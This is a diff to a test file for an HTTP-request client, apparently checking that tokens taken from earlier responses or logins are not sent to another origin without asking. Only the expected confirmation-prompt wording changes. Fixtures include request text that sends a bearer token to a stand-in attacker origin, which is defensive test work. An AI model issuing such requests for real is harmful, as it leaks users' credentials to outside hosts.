@@ -112,7 +112,7 @@ test('a token that is read out of an earlier request goes nowhere else unasked',
   ];
   for (const text of tries) assert.deepEqual(statuses(await sendAll(shell, text)), [200, 'cancelled'], text);
   assert.deepEqual(evil.apiCalls, []);
-  assert.match(questions.at(-1) ?? '', new RegExp(`Send the credential of the session person to ${evil.origin}`));
+  assert.match(questions.at(-1) ?? '', new RegExp(`Let ${evil.origin} have the token of person`));
 });
 
 test('a token of an account that is read out of an earlier request goes nowhere else unasked', async (t) => {
@@ -139,7 +139,7 @@ test('what a definition took from a login goes nowhere else unasked', async (t) 
   const text = `@held = {{enter.response.body.$.token}}\n\n# @name enter\n# @login\nPOST ORIGIN/login\n\n###\nGET ORIGIN/me\nAuthorization: Bearer {{held}}\n\n###\nGET ${evil.origin}/me\nAuthorization: Bearer {{held}}\n`;
   assert.deepEqual(statuses(await sendAll(shell, text)), [200, 200, 'cancelled']);
   assert.deepEqual(evil.apiCalls, []);
-  assert.match(questions.at(-1) ?? '', /session login enter/);
+  assert.match(questions.at(-1) ?? '', /the session of enter/);
 });
 
 test('a redirect to another origin does not take a token along', async (t) => {
@@ -204,7 +204,7 @@ test('the question about another origin cannot be written by the file', async (t
   const asks = (origin: string) => `GET ${origin}/me\nAuthorization: Bearer {{$auth.token(${JSON.stringify(id)})}}\n`;
   await shell.send(asks('ORIGIN'));
   await shell.send(asks(evil.origin));
-  const asked = questions.filter((it) => it.startsWith('Send the credential'));
+  const asked = questions.filter((it) => it.startsWith(`Let ${evil.origin} have `));
   assert.equal(asked.length, 1, questions.join(' / '));
   for (const it of asked) {
     assert.ok(it.includes(evil.origin) && it.length < 300, it);
